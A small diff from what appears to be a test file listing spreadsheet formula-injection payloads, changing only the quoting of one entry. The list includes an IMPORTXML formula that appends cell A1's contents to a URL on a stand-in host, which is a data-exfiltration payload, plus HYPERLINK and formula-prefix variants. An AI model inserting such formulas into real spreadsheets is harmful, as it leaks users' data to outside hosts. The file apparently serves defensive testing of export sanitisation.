@@ -37,7 +37,7 @@ PAYLOADS = [
     "\n\n+1",
     " \t =1+1",
     "\r\n@SUM(1)",
-    "=IMPORTXML(CONCAT(\"http://x/?v=\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
     "+HYPERLINK(A1)",
 ]
 
